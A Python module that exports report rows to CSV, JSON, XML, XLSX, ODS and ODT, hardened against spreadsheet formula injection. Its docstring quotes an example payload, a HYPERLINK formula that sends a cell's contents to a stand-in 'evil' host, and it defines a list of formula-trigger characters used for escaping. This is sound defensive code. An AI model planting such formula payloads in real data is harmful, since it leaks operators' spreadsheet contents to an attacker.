"""Report exports: any list of rows as ODS, ODT, XLSX, CSV, XML or JSON.

Callers give column definitions (key, Italian header) and an iterable of dicts;
each writer returns (bytes, content type, file extension). Values are written as
text except numbers and dates, which spreadsheets get as typed cells.

Text is never a formula (OWASP "CSV injection"): a case title such as
`=HYPERLINK("http://evil/?"&A1)` typed by a citizen must reach the operator's
spreadsheet as the characters they typed. XLSX and ODS cells holding text carry an
explicit string type; CSV has no types, so text starting with a formula trigger is
prefixed with a single quote. Real numbers (a negative amount) stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from django.core.serializers.json import DjangoJSONEncoder
from lxml import etree

Column = tuple[str, str]  # (key, header)

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "json": "application/json",
    "xml": "application/xml",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odt": "application/vnd.oasis.opendocument.text",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
FORMATS = tuple(CONTENT_TYPES)


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.isoformat(timespec="seconds")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return ", ".join(_text(v) for v in value)
    return str(value)


# What spreadsheet programs read as the start of a formula (or, for tab and CR, as a cell
# separator that can shift the next characters into a formula).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates: text starting with a formula trigger gets a
    leading single quote; anything that is not text (numbers, dates) is left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _csv(columns: Sequence[Column], rows: Iterable[dict[str, Any]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_safe(header) for _key, header in columns])
    for row in rows:
        writer.writerow([_csv_cell(row.get(key)) for key, _header in columns])
    # A BOM lets spreadsheet programs read the UTF-8 accents correctly.
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _csv_cell(value: Any) -> str:
    # Numbers are written as they are (a negative amount stays -12.5, not '-12.5).
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return _text(value)
    return csv_safe(_text(value))


def _json(columns: Sequence[Column], rows: Iterable[dict[str, Any]]) -> bytes:
    keys = [key for key, _header in columns]
    return json.dumps([{k: row.get(k) for k in keys} for row in rows], cls=DjangoJSONEncoder, ensure_ascii=False).encode()


def _xml(columns: Sequence[Column], rows: Iterable[dict[str, Any]], root: str, item: str) -> bytes:
    top = etree.Element(root)
    for row in rows:
        element = etree.SubElement(top, item)
        for key, _header in columns:
            etree.SubElement(element, key).text = _text(row.get(key))
    return etree.tostring(top, xml_declaration=True, encoding="UTF-8", pretty_print=True)


def _xlsx(columns: Sequence[Column], rows: Iterable[dict[str, Any]], title: str) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31] or "Export")

    def cell(value: Any) -> Any:
        if isinstance(value, dt.datetime):
            return value.replace(tzinfo=None)  # spreadsheets have no time zones
        if isinstance(value, list | tuple | dict):
            value = _text(value)
        if not isinstance(value, str):
            return value
        # openpyxl turns any text starting with "=" into a formula (and "#N/A" into an error):
        # text is text, whatever it starts with.
        text = WriteOnlyCell(sheet, value=value)
        text.data_type = "s"
        return text

    sheet.append([cell(header) for _key, header in columns])
    for row in rows:
        sheet.append([cell(row.get(key)) for key, _header in columns])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
_ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    f'<manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="{ODS_MIME}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    '</manifest:manifest>'
)
_ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    '<office:body><office:spreadsheet><table:table table:name={name}>'
)
_ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-content>"


def _ods_cell(value: Any) -> str:
    # Text is always office:value-type="string" and no cell ever carries table:formula, so
    # "=1+1" in a title is shown as typed, never computed.
    # A literal CR would be read back as LF (XML end-of-line handling): keep it as a reference.
    text = escape(_text(value), {"\r": "&#13;"})
    if isinstance(value, bool) or value is None:
        return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
    if isinstance(value, int | float | Decimal):
        return (f'<table:table-cell office:value-type="float" office:value="{value}">'
                f"<text:p>{text}</text:p></table:table-cell>")
    if isinstance(value, dt.datetime | dt.date):
        return (f'<table:table-cell office:value-type="date" office:date-value="{_text(value)}">'
                f"<text:p>{text}</text:p></table:table-cell>")
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def _ods(columns: Sequence[Column], rows: Iterable[dict[str, Any]], title: str) -> bytes:
    """ODS written as a stream of XML text: for 50,000 rows several times faster than building
    odfpy's document tree (bench/exports.py measures both; `_ods_odfpy` is kept for the comparison)."""
    parts = [_ODS_HEAD.format(name=quoteattr(title[:31] or "Export")), "<table:table-row>"]
    parts += [_ods_cell(header) for _key, header in columns]
    parts.append("</table:table-row>")
    for row in rows:
        parts.append("<table:table-row>")
        parts += [_ods_cell(row.get(key)) for key, _header in columns]
        parts.append("</table:table-row>")
    parts.append(_ODS_TAIL)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODS_MIME, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", _ODS_MANIFEST)
        archive.writestr("content.xml", "".join(parts))
    return out.getvalue()


def _ods_odfpy(columns: Sequence[Column], rows: Iterable[dict[str, Any]], title: str) -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    table = Table(name=title[:31] or "Export")

    def cell(value: Any) -> TableCell:
        if isinstance(value, bool) or value is None or isinstance(value, str | list | tuple | dict):
            c = TableCell(valuetype="string")
        elif isinstance(value, int | float | Decimal):
            c = TableCell(valuetype="float", value=value)
        elif isinstance(value, dt.datetime | dt.date):
            c = TableCell(valuetype="date", datevalue=_text(value))
        else:
            c = TableCell(valuetype="string")
        c.addElement(P(text=_text(value)))
        return c

    header = TableRow()
    for _key, title_text in columns:
        header.addElement(cell(title_text))
    table.addElement(header)
    for row in rows:
        tr = TableRow()
        for key, _header in columns:
            tr.addElement(cell(row.get(key)))
        table.addElement(tr)
    document.spreadsheet.addElement(table)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def _odt(columns: Sequence[Column], rows: Iterable[dict[str, Any]], title: str) -> bytes:
    from odf.opendocument import OpenDocumentText
    from odf.table import Table, TableCell, TableColumn, TableRow
    from odf.text import H, P

    document = OpenDocumentText()
    document.text.addElement(H(outlinelevel=1, text=title))
    table = Table(name="Export")
    table.addElement(TableColumn(numbercolumnsrepeated=len(columns)))
    for values in ([h for _k, h in columns], *([_text(row.get(k)) for k, _h in columns] for row in rows)):
        tr = TableRow()
        for value in values:
            c = TableCell()
            c.addElement(P(text=_text(value)))
            tr.addElement(c)
        table.addElement(tr)
    document.text.addElement(table)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def export_rows(
    fmt: str, columns: Sequence[Column], rows: Iterable[dict[str, Any]], *, title: str = "Export",
    xml_root: str = "export", xml_item: str = "row",
) -> tuple[bytes, str, str]:
    if fmt not in CONTENT_TYPES:
        raise ValueError(f"unknown export format {fmt!r}")
    rows = list(rows)
    if fmt == "csv":
        body = _csv(columns, rows)
    elif fmt == "json":
        body = _json(columns, rows)
    elif fmt == "xml":
        body = _xml(columns, rows, xml_root, xml_item)
    elif fmt == "xlsx":
        body = _xlsx(columns, rows, title)
    elif fmt == "ods":
        body = _ods(columns, rows, title)
    else:
        body = _odt(columns, rows, title)
    return body, CONTENT_TYPES[fmt], fmt
